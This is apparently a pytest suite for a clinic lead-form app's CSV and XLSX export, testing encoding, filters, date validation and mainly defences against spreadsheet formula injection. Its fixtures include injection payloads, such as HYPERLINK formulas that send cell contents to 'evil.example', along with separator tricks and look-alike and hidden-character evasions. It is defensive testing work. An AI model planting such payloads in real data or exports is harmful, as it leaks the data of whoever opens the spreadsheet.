"""CSV and XLSX export of appointment requests: columns, encoding, formula safety, filters."""

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from lead_forms.inbox import export
from lead_forms.models import AppointmentSubmission
from tests.lead_forms.conftest import make_submission

INDEX = "lead_forms_appointmentsubmission_modeladmin_index"

pytestmark = pytest.mark.django_db


def download(client, url, params):
    response = client.get(url, params)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(raw):
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


@pytest.fixture
def staff(superuser):
    client = Client()
    client.force_login(superuser)
    return client


def test_per_form_export_has_one_column_per_field_in_form_order(staff, form_page):
    make_submission(form_page, first_name="Élodie", your_comments="Café crème, naïve")
    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])

    response = staff.get(url, {"export": "csv"})
    header, row = read_csv(b"".join(response.streaming_content))

    labels = [field.label for field in form_page.get_form_fields()]
    # "Received" names the time zone of its values (TIME_ZONE here), which carry their UTC offset.
    assert header == ["Reference", "Received (America/New_York)", "Status", *labels, "Suspected spam"]
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    values = dict(zip(header, row, strict=True))
    assert values["First name"] == "Élodie"  # accents survive (UTF-8 with BOM for Excel)
    assert values["Your comments"] == "Café crème, naïve"
    assert values["Status"] == "New"
    assert values["Receive our free newsletter"] == "Yes"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d-0[45]:00", values["Received (America/New_York)"])


def test_inbox_export_respects_the_filters_and_spans_forms(staff, form_page, second_form):
    make_submission(form_page, first_name="Bookedone", status="booked")
    make_submission(form_page, first_name="Newone")
    make_submission(second_form, full_name="Otherform Patient", email="o@example.org")
    make_submission(form_page, first_name="Spamone", is_spam=True)

    everything = read_csv(download(staff, reverse(INDEX), {"export": "csv"}))
    booked = read_csv(download(staff, reverse(INDEX), {"export": "csv", "status": "booked"}))

    header = everything[0]
    assert header[:4] == ["Reference", "Received (America/New_York)", "Status", "Form page"]
    first_form = [field.label for field in form_page.get_form_fields()]
    assert header[4 : 4 + len(first_form)] == first_form
    assert "Full name" in header  # the second form's own field
    flat = "\n".join(",".join(row) for row in everything[1:])
    assert "Bookedone" in flat and "Newone" in flat and "Otherform Patient" in flat
    assert "Spamone" not in flat  # hidden by default, as in the list
    assert len(booked) == 2 and "Bookedone" in booked[1]


def read_xlsx(raw):
    sheet = load_workbook(io.BytesIO(raw), read_only=False).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_xlsx_cells_are_text_exactly_as_stored_never_formulas(staff, form_page):
    make_submission(
        form_page,
        first_name='=HYPERLINK("http://evil")',
        last_name="@SUM(A1)",
        city="Zürich",
        state="0042",
        phone="+551155550101",
    )
    raw = download(staff, reverse(INDEX), {"export": "xlsx"})

    sheet, rows = read_xlsx(raw)
    values = dict(zip(rows[0], rows[1], strict=False))
    # A text cell is never evaluated: no apostrophe is needed, and none is shown.
    assert values["First name"] == '=HYPERLINK("http://evil")'
    assert values["Last name"] == "@SUM(A1)"
    assert values["City"] == "Zürich"
    assert values["State"] == "0042"  # text, so the leading zeros stay
    assert values["Phone"] == "+55 11 5555-0101"  # formatted for people, + kept
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" and cell.number_format == "@" for cell in cells)


def test_phone_numbers_are_exported_as_people_write_them(staff, form_page, settings):
    make_submission(form_page, first_name="Abroad", phone="+551155550101")
    make_submission(form_page, first_name="Local", phone="+12175550199")
    make_submission(form_page, first_name="Odd", phone="02175550199")

    header, *rows = read_csv(download(staff, reverse(INDEX), {"export": "csv"}))
    phones = {row[header.index("First name")]: row[header.index("Phone")] for row in rows}
    # The clinic's own region (US by default) in national format, others international;
    # in the CSV a leading + is a formula trigger, so it keeps its guard.
    assert phones == {"Abroad": "'+55 11 5555-0101", "Local": "(217) 555-0199", "Odd": "021 755 501 99"}

    settings.LEAD_FORMS_PHONE_REGION = "BR"
    header, *rows = read_csv(download(staff, reverse(INDEX), {"export": "csv"}))
    phones = {row[header.index("First name")]: row[header.index("Phone")] for row in rows}
    assert phones["Abroad"] == "(11) 5555-0101" and phones["Local"] == "'+1 217-555-0199"


# Characters that hide a formula from a guard that looks only at the first one.
HIDING = (
    [chr(code) for code in range(0x00, 0x20)]
    + ["\x7f", "\x85", "\x9b", " ", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200c", "\u200d"]
    + ["\u2060", "\ufeff", "\u202e", "\u0301", "\ue000"]
)
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1;"Click")', "+1+1", "-2+3", "@SUM(1;2)", "=1+1")
LOOK_ALIKES = {
    "=": ("\uff1d", "\ufe66", "\u207c", "\u208c"),
    "+": ("\uff0b", "\ufe62"),
    "-": ("\uff0d", "\ufe63"),
    "@": ("\uff20", "\ufe6b"),
}
# PostgreSQL's jsonb cannot hold NUL, and lone surrogates are not text; everything else goes.
patient_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))


# A formula, its trigger sometimes swapped for a look-alike.
formulas = st.sampled_from(FORMULAS).flatmap(
    lambda f: st.sampled_from((f[0], *LOOK_ALIKES[f[0]])).map(lambda t: t + f[1:])
)


attack = st.tuples(
    st.text(alphabet=st.sampled_from([c for c in HIDING if c != "\x00"]), max_size=6)
    | st.text(max_size=3).filter(lambda s: "\x00" not in s),
    formulas,
).map("".join)


def spreadsheet_could_run(cell):
    """An independent oracle: strip what a spreadsheet may skip, fold look-alikes, look for a trigger."""
    import unicodedata

    rest = cell
    while rest and (
        rest[0] in '"\t\r'
        or rest[0].isspace()
        or unicodedata.category(rest[0]) in {"Cc", "Cf", "Co", "Cn", "Zs", "Mn", "Me"}
    ):
        rest = rest[1:]
    return unicodedata.normalize("NFKC", rest[:1])[:1] in {"=", "+", "-", "@"}


@hypothesis_settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=st.one_of(attack, patient_text))
def test_no_value_ever_becomes_a_formula_in_csv_or_xlsx(form_page, value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    submission = AppointmentSubmission.objects.create(page=form_page, form_data={"first_name": value})
    try:
        queryset = AppointmentSubmission.objects.filter(pk=submission.pk)
        columns = export.export_columns([form_page], with_page=False)
        position = [column.label for column in columns].index("First name")

        raw = b"".join(export.csv_chunks(queryset, columns))
        cell = read_csv(raw)[1][position]
        if spreadsheet_could_run(value):
            assert cell.startswith("'")  # neutralised
        assert not spreadsheet_could_run(cell)
        # Otherwise the value as stored: only apostrophes were put in front of what could run.
        assert cell.replace("'", "") == value.replace("'", "")
        # Opened with ";" (Excel's separator in many locales), no cell runs either.
        for row in csv.reader(io.StringIO(raw[3:].decode(), newline=""), delimiter=";"):
            assert not [piece for piece in row if spreadsheet_could_run(piece)], row

        buffer = io.BytesIO()
        export.write_xlsx(queryset, columns, buffer)
        sheet, rows = read_xlsx(buffer.getvalue())
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        # XML cannot carry these controls, and reads every line break as \n.
        stored = ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r\n", "\n").replace("\r", "\n")
        assert (rows[1][position] or "") == stored
    finally:
        submission.delete()


def test_header_labels_are_neutralised_too(form_page):
    field = form_page.form_fields.first()
    field.label = "=cmd"
    columns = [export.Column(field.clean_name, field.label)]
    header = read_csv(b"".join(export.csv_chunks(AppointmentSubmission.objects.none(), columns)))[0]
    assert header == ["'=cmd"]


def test_first_chunk_is_sent_before_the_database_is_read(form_page, django_assert_num_queries):
    columns = export.export_columns([form_page], with_page=False)
    chunks = export.csv_chunks(AppointmentSubmission.objects.all(), columns)
    with django_assert_num_queries(0):
        first = next(chunks)
    assert first.startswith(b'\xef\xbb\xbf"Reference","Received (America/New_York)","Status",')


def test_export_reads_rows_in_chunks_not_all_at_once(form_page, django_assert_max_num_queries):
    for n in range(30):
        make_submission(form_page, first_name=f"Patient{n}")
    columns = export.export_columns([form_page], with_page=False)
    with django_assert_max_num_queries(3):
        body = b"".join(export.csv_chunks(AppointmentSubmission.objects.all(), columns, chunk_size=10))
    assert body.count(b"\r\n") == 31


def test_too_large_xlsx_is_refused_with_a_way_forward(staff, form_page, settings):
    settings.LEAD_FORMS_XLSX_MAX_ROWS = 2
    for n in range(3):
        make_submission(form_page, first_name=f"Many{n}")

    for url in (reverse(INDEX), reverse("wagtailforms:list_submissions", args=[form_page.pk])):
        response = staff.get(url, {"export": "xlsx", "status": "new"}, follow=True)
        html = response.content.decode()
        assert "3 requests are too many for an XLSX download here: download CSV" in html
        assert "status=new" in response.redirect_chain[-1][0]
    assert len(read_csv(download(staff, reverse(INDEX), {"export": "csv"}))) == 4


def test_control_characters_are_removed_when_a_request_is_received(csrf_client, form_page, client_ip):
    from tests.lead_forms.conftest import VALID_DATA, post_form

    data = {
        **VALID_DATA,
        "first_name": '\x01\x1b=HYPERLINK("http://evil.example";"Click")',
        "your_comments": "First line\r\nsecond\tline\x07\x9b",
    }
    response = post_form(csrf_client, form_page, client_ip, data)

    assert response.status_code in (200, 303)
    stored = AppointmentSubmission.objects.get().form_data
    assert stored["first_name"] == '=HYPERLINK("http://evil.example";"Click")'
    assert stored["your_comments"] == "First line\nsecond line"


def test_every_export_path_goes_through_the_one_entry_point(
    staff, form_page, superuser, tmp_path, monkeypatch
):
    """The inbox, the form's submissions view, the API and the command all call ``export.export_stream``."""
    from django.core.management import call_command

    from tests.lead_forms.test_api_staff import bearer

    make_submission(form_page, first_name="Élodie")
    formats = []
    original = export.export_stream

    def recording(fmt, *args, **kwargs):
        formats.append(fmt)
        return original(fmt, *args, **kwargs)

    monkeypatch.setattr(export, "export_stream", recording)
    per_form = download(
        staff, reverse("wagtailforms:list_submissions", args=[form_page.pk]), {"export": "csv"}
    )
    inbox = download(staff, reverse(INDEX), {"export": "xlsx", "form": form_page.pk})
    api = download(bearer(superuser), "/api/v3/appointment-requests/export/", {"form": form_page.pk})
    call_command(
        "export_appointment_requests",
        "--form",
        form_page.slug,
        "-o",
        tmp_path / "out.csv",
        stdout=io.StringIO(),
    )

    assert formats == ["csv", "xlsx", "csv", "csv"]
    assert "Élodie" in per_form.decode("utf-8-sig") and "Élodie" in api.decode("utf-8-sig")
    assert ["Élodie"] == [value for row in read_xlsx(inbox)[1] for value in row if value == "Élodie"]
    assert (tmp_path / "out.csv").read_bytes() == per_form  # same columns, same bytes


# --- Separators (audit finding M1) and numbers that are text ----------------------------------

# A quote-free comment that, opened with ";" as separator, was a live link carrying the row.
SEPARATOR_ATTACK = 'x;=1+2;y;=HYPERLINK("http://evil.example/?"&B2&C2;"Click")'


def test_a_separator_inside_an_answer_never_starts_a_formula(staff, form_page):
    make_submission(form_page, first_name="Zoë", your_comments=SEPARATOR_ATTACK, state="a,b\n=1+1")

    raw = download(staff, reverse(INDEX), {"export": "csv"})

    header, row = read_csv(raw)
    values = dict(zip(header, row, strict=True))
    # Read with its own separator: one cell each, every cell quoted, the formulas behind apostrophes.
    assert values["Your comments"] == 'x;\'=1+2;y;\'=HYPERLINK("http://evil.example/?"&B2&C2;"Click")'
    assert values["State"] == "a,b\n'=1+1"
    assert b"\"x;'=1+2;y;" in raw
    # Read with ";" or a tab, as a spreadsheet in many locales does: nothing starts a formula.
    for delimiter in (";", "\t"):
        cells = [
            cell
            for row in csv.reader(io.StringIO(raw[3:].decode(), newline=""), delimiter=delimiter)
            for cell in row
        ]
        assert [cell for cell in cells if spreadsheet_could_run(cell)] == []


def test_a_number_like_answer_is_kept_as_typed_in_both_formats(staff, form_page):
    make_submission(form_page, first_name="Zero", state="0123")

    header, row = read_csv(download(staff, reverse(INDEX), {"export": "csv"}))
    assert dict(zip(header, row, strict=True))["State"] == "0123"  # no apostrophe, no noise
    sheet, rows = read_xlsx(download(staff, reverse(INDEX), {"export": "xlsx"}))
    cell = sheet.cell(row=2, column=rows[0].index("State") + 1)
    assert (cell.value, cell.data_type, cell.number_format) == ("0123", "s", "@")


# --- Date filters out of range: a message saying what to fix, never a 500 ------------------------

OUT_OF_RANGE = "9999-12-31 is out of range: enter a date from 1900-01-01 to 9998-12-31"


def test_inbox_date_out_of_range_is_reported_next_to_the_field(staff, form_page):
    make_submission(form_page, first_name="Kept")

    response = staff.get(reverse(INDEX), {"received_to": "9999-12-31"})

    assert response.status_code == 200
    html = response.content.decode()
    assert OUT_OF_RANGE in html and 'aria-invalid="true"' in html
    assert "Kept" in html  # the bad date is not applied
    assert staff.get(reverse(INDEX), {"received_from": "0001-01-01"}).status_code == 200
    assert staff.get(reverse(INDEX), {"received_to": "9998-12-31"}).status_code == 200


def test_inbox_export_with_a_date_out_of_range_is_refused_with_the_reason(staff, form_page):
    make_submission(form_page, first_name="Kept")

    response = staff.get(reverse(INDEX), {"received_to": "9999-12-31", "export": "csv", "status": "new"})

    assert response.status_code == 302
    assert "export" not in response["Location"] and "status=new" in response["Location"]
    followed = staff.get(response["Location"])
    assert followed.status_code == 200 and OUT_OF_RANGE in followed.content.decode()


def test_api_date_out_of_range_is_a_validation_error(superuser, form_page):
    from tests.lead_forms.test_api_staff import bearer

    client = bearer(superuser)
    for url in ("/api/v3/appointment-requests/", "/api/v3/appointment-requests/export/"):
        for name in ("until", "since"):
            response = client.get(url, {name: "9999-12-31"})
            assert response.status_code == 422, (url, name, response.status_code)
            assert OUT_OF_RANGE in response.content.decode()
    assert client.get("/api/v3/appointment-requests/", {"until": "9998-12-31"}).status_code == 200


def test_command_date_out_of_range_says_what_to_type(tmp_path):
    from django.core.management import CommandError, call_command

    with pytest.raises(CommandError, match=f"--until {OUT_OF_RANGE}"):
        call_command("export_appointment_requests", "--until", "9999-12-31", "-o", tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_filter_requests_refuses_dates_it_cannot_end(form_page):
    import datetime

    with pytest.raises(ValueError, match=OUT_OF_RANGE):
        export.filter_requests(until=datetime.date.max)
    make_submission(form_page, first_name="Kept")
    assert export.filter_requests(since=export.FIRST_DAY, until=export.LAST_DAY).count() == 1


def test_per_form_export_date_out_of_range_is_not_a_server_error(staff, form_page):
    make_submission(form_page, first_name="Kept")
    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])

    for params in ({"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}):
        response = staff.get(url, {**params, "export": "csv"})
        assert response.status_code < 500, (params, response.status_code)
